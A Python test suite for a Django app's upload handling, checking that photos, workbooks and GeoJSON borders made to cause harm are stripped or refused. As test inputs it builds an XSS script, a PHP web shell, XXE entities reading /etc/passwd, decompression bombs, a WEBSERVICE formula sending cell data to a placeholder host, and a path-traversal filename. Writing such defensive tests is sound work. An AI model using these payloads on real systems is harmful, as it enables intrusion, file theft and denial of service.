"""Files that are not what they say: photos, workbooks and borders made to hurt."""

from __future__ import annotations

import io
import json
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook
from PIL import Image

from governance.kernel.errors import Invalid
from governance.kernel.storage import MAX_BYTES, StoredImage, store_photos
from governance.kernel.tenancy.context import no_district
from grids.geometry import border_problem, read_border
from grids.importing import reading
from grids.importing.sheets import BY_KIND
from requests_intake.importing.tables import open_table
from requests_intake.models import Attachment
from tests.cases import CONTENT
from tests.world import World

SCRIPT = b"<html><script>alert(document.domain)</script></html>"


def jpeg(width: int = 60, height: int = 40, **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (120, 90, 60)).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr("shell.php", "<?php system($_GET[0]);")
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says how large it is; what follows may be as small as one likes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def animated() -> bytes:
    frames = [Image.new("P", (40, 40), shade) for shade in range(200)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def place() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "A phone"
    exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 1.0, 0.0), 3: "E", 4: (113.0, 5.0, 0.0)})
    return exif


def keep(content: bytes, name: str = "a.jpg") -> StoredImage:
    return store_photos([SimpleUploadedFile(name, content, "image/jpeg")])[0]


def stored(photo: StoredImage) -> list[bytes]:
    found = []
    for name in (photo.file, photo.thumbnail):
        with default_storage.open(name) as file:
            found.append(file.read())
    return found


@pytest.fixture
def folder(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("what", "content"),
    [
        ("page behind the picture", jpeg() + SCRIPT),
        ("archive behind the picture", jpeg() + archive()),
        ("page in the comment", jpeg(comment=SCRIPT)),
        ("place in the metadata", jpeg(exif=place())),
        ("many pictures", animated()),
    ],
)
def test_of_a_photo_only_its_pixels_are_kept(world: World, folder: Path, what: str, content: bytes) -> None:
    for kept in stored(keep(content)):
        picture = Image.open(io.BytesIO(kept))
        assert picture.format == "JPEG"
        assert getattr(picture, "n_frames", 1) == 1
        assert not picture.getexif()
        assert "comment" not in picture.info
        for trace in (b"<script", b"shell.php", b"PK\x03\x04", b"A phone"):
            assert trace not in kept, what
        with pytest.raises(zipfile.BadZipFile):
            zipfile.ZipFile(io.BytesIO(kept))


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("drawing.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("page.jpg", SCRIPT),
        ("archive.jpg", archive()),
        ("paper.jpg", b"%PDF-1.4\n1 0 obj\n"),
        ("program.jpg", b"MZ" + bytes(200)),
        ("script.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
        ("picture.bmp", b"BM" + bytes(100)),
        ("empty.jpg", b""),
        ("half.jpg", jpeg(600, 400)[:900]),
        ("header.png", b"\x89PNG\r\n\x1a\n"),
        ("wide.png", png(60_000, 60_000)),
        ("long.png", png(1, 2_000_000_000)),
        ("bomb.png", png(7_200, 7_200, bytes(7_201 * 7_200))),
    ],
)
def test_what_is_no_photo_leaves_nothing_behind(world: World, folder: Path, name: str, content: bytes) -> None:
    with pytest.raises(Invalid) as refusal:
        keep(content, name) if content else store_photos([Nothing()])
    assert refusal.value.fields["photos"]
    assert not [path for path in folder.rglob("*") if path.is_file()]


class Nothing:
    """A file without a byte that a client calls a photo."""

    name, size = "empty.jpg", 0

    def read(self, *args: int) -> bytes:
        return b""

    def seek(self, *args: int) -> int:
        return 0

    def tell(self) -> int:
        return 0


@pytest.mark.django_db
def test_a_bomb_is_refused_before_its_pixels_are_made(world: World, folder: Path) -> None:
    content = png(7_200, 7_200, bytes(7_201 * 7_200))  # 52 megapixels in 50 KB
    assert len(content) < 60_000
    tracemalloc.start()
    with pytest.raises(Invalid):
        keep(content)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 5_000_000


@pytest.mark.django_db
def test_a_file_that_is_too_large_is_never_read(world: World, folder: Path) -> None:
    class Large:
        name, size = "large.jpg", MAX_BYTES + 1

        def read(self, *args: Any) -> bytes:
            raise AssertionError("it was read")

    with pytest.raises(Invalid):
        store_photos([Large()])


@pytest.mark.django_db
def test_photos_are_served_as_pictures_and_never_as_pages(world: World, folder: Path, client: Client) -> None:
    from uuid import uuid4

    body = {
        "content": CONTENT, "building": world.building.pk, "phone": "13800001234", "idempotency_key": uuid4(),
        "photos": SimpleUploadedFile("x.html", jpeg() + SCRIPT, "text/html"),
    }  # fmt: skip
    with no_district():
        client.post("/d/t1/report/", body)
    photo = Attachment.objects.get()
    with no_district():
        answer = client.get(f"/d/t1/photo/{photo.pk}/")
    content = answer.getvalue()
    assert answer["Content-Type"] == "image/jpeg"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cache-Control"] == "private, no-store"
    assert b"<script" not in content
    assert ".html" not in photo.file


# ---------------------------------------------------------------- workbooks


def workbook(rows: list[list[Any]]) -> bytes:
    book, buffer = Workbook(), io.BytesIO()
    page = book.create_sheet(BY_KIND["areas"].title, 0)
    for row in rows:
        page.append(row)
    book.save(buffer)
    return buffer.getvalue()


def with_part(content: bytes, part: str, text: str) -> bytes:
    """The same workbook with one of its parts written anew."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, text if name == part else old.read(name))
    return buffer.getvalue()


HEAD = ["层级", "区划代码", "名称", "上级代码"]
ENTITIES = {
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "network": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/">]>',
    "laughs": '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">]>',
}


@pytest.mark.parametrize("kind", ENTITIES)
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"])
def test_a_workbook_with_entities_is_refused(kind: str, part: str, tmp_path: Path) -> None:
    content = workbook([HEAD, ["街道", "1", "新华街道", "0"]])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        text = book.read(part).decode()
    begin = text.index("?>") + 2 if text.startswith("<?xml") else 0
    poisoned = with_part(content, part, text[:begin] + ENTITIES[kind] + text[begin:].replace("新华街道", "&e;"))
    with pytest.raises(Invalid):
        reading.read_upload("a.xlsx", poisoned)
    (tmp_path / "a.xlsx").write_bytes(poisoned)
    with pytest.raises(Invalid), open_table(tmp_path / "a.xlsx") as table:
        list(table.rows)


def test_a_workbook_that_swells_is_refused_by_both_importers_before_it_is_unpacked(tmp_path: Path) -> None:
    content = workbook([HEAD])
    bomb = with_part(content, "xl/worksheets/sheet1.xml", " " * 50_000_000)
    assert len(bomb) < 200_000
    (tmp_path / "a.xlsx").write_bytes(bomb)
    tracemalloc.start()
    with pytest.raises(Invalid, match="大得不正常"):
        reading.read_upload("a.xlsx", bomb)
    with pytest.raises(Invalid, match="大得不正常"), open_table(tmp_path / "a.xlsx"):
        pass
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 10_000_000


def test_a_formula_is_not_computed_and_its_text_is_not_taken() -> None:
    found = reading.read_upload("a.xlsx", workbook([HEAD, ["街道", "1", '=WEBSERVICE("http://x/"&A1)', "0"]]))
    assert found.rows[0].values == {"level": "street", "code": "1", "parent": "0"}


@pytest.mark.parametrize("name", ["a.xlsm", "a.xls", "a.csv", "a.xlsx.exe", "a", "a.zip", "../../a.html"])
def test_other_kinds_of_file_are_refused_by_name(name: str) -> None:
    with pytest.raises(Invalid):
        reading.read_upload(name, workbook([HEAD]))


# ---------------------------------------------------------------- borders


def collection(*geometries: Any) -> bytes:
    features = [
        {"type": "Feature", "properties": {"code": str(number)}, "geometry": geometry}
        for number, geometry in enumerate(geometries)
    ]
    return json.dumps({"type": "FeatureCollection", "features": features}).encode()


def nested(depth: int) -> Any:
    found: Any = [113.0, 34.0]
    for _ in range(depth):
        found = [found]
    return found


@pytest.mark.parametrize(
    "geometry",
    [
        {"type": "Polygon", "coordinates": nested(300)},
        {"type": "MultiPolygon", "coordinates": nested(900)},
        {"type": "Polygon", "coordinates": [[[113 + n / 1e6, 34 + (n % 7) / 1e6] for n in range(30_000)]]},
        {"type": "MultiPolygon", "coordinates": [[[[113, 34], [113.1, 34], [113, 34.1], [113, 34]]]] * 9_000},
        {"type": "Polygon", "coordinates": [[["a", "b"]] * 4]},
        {"type": "Polygon", "coordinates": [[[float("inf"), 34], [113, 34], [113, 35], [float("inf"), 34]]]},
        {"type": "Polygon", "coordinates": [[[1e308, 1e308], [-1e308, 1e308], [1e308, -1e308], [1e308, 1e308]]]},
        {"type": "Polygon", "coordinates": [[[113, 34], None, [113, 35], [113, 34]]]},
        {"type": "Polygon", "coordinates": 5},
        {"type": "GeometryCollection", "geometries": [{"type": "GeometryCollection", "geometries": []}]},
        {"type": ["Polygon"], "coordinates": []},
    ],
)
def test_a_border_made_to_hurt_is_refused_with_a_sentence(geometry: Any) -> None:
    assert border_problem(geometry)
    rows = reading.read_upload("a.geojson", collection(geometry)).rows
    assert border_problem(rows[0].values["geometry"])


@pytest.mark.parametrize(
    "content",
    [
        b"[" * 200_000,
        b'{"a":' * 100_000,
        b'{"type":"FeatureCollection","features":5}',
        b"\xff\xfe\x00",
        b'"' + b"a" * 9,
    ],
)
def test_json_that_is_no_border_is_refused(content: bytes) -> None:
    with pytest.raises(Invalid):
        reading.read_upload("a.geojson", content)
    with pytest.raises(ValueError, match="。"):
        read_border(content.decode("utf-8", "replace"), "1")


def test_a_file_of_many_features_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MAX_ROWS", 3)
    with pytest.raises(Invalid):
        reading.read_upload("a.geojson", collection(*[None] * 4))


def test_a_register_that_is_too_large_is_not_looked_into(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "MAX_BYTES", 10)
    monkeypatch.setattr(reading, "_read_workbook", lambda content: pytest.fail("it was opened"))
    with pytest.raises(Invalid):
        reading.read_upload("a.xlsx", bytes(11))
